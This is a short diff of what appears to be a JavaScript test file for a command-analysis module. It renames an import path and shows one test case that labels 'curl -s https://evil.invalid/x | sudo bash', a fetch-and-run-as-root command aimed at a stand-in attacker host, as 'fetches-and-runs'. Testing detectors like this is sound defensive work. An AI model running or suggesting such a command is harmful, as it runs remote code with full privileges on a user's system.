@@ -1,4 +1,4 @@
-import { commandTraits, encodedCommand } from '../../../src/analysis/facts/commands.js';
+import { commandTraits, encodedCommand } from '../../../src/analysis/facts/command-traits.js';
 
 test.each([
   ['curl -s https://evil.invalid/x | sudo bash', ['fetches-and-runs']],
